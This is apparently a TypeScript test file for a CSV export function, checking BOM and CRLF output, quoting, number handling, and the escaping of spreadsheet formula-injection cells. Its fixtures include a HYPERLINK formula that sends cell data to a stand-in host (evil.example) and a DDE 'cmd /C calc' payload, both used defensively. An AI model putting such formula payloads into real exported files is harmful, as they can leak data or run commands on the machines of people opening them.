import { describe, expect, it } from 'vitest'
import { csvText } from './csv.ts'

const cell = (value: string) => csvText([[value]]).slice(1, -2)

describe('a table as CSV text', () => {
  it('begins with a byte order mark and ends every row with CRLF', () => {
    expect(csvText([['时间', 'a'], ['1']])).toBe('\uFEFF时间,a\r\n1\r\n')
  })

  it.each([
    ['=1+1', "'=1+1"],
    ['+1+1', "'+1+1"],
    ['-1+1', "'-1+1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
    ['\n=1', `"'\n=1"`],
    ['＝1', "'＝1"],
    ['=HYPERLINK("http://evil.example?x="&A1,"Refund")', `"'=HYPERLINK(""http://evil.example?x=""&A1,""Refund"")"`],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
  ])('writes a cell that would run as a formula as text: %j', (value, written) => {
    expect(cell(value)).toBe(written)
  })

  it.each(['0', '12.5', '-12.5', '-0.00000001', '1000000'])('keeps %s a number', (value) => {
    expect(cell(value)).toBe(value)
  })

  it.each(['-1e5', '--1', '-1.', '+1', '-01'])('does not write %s as a number', (value) => {
    expect(cell(value)).toBe(`'${value}`)
  })

  it('quotes cells that would break a row', () => {
    expect(cell('a,b')).toBe('"a,b"')
    expect(cell('say "no"')).toBe('"say ""no"""')
    expect(cell('two\nlines')).toBe('"two\nlines"')
  })
})
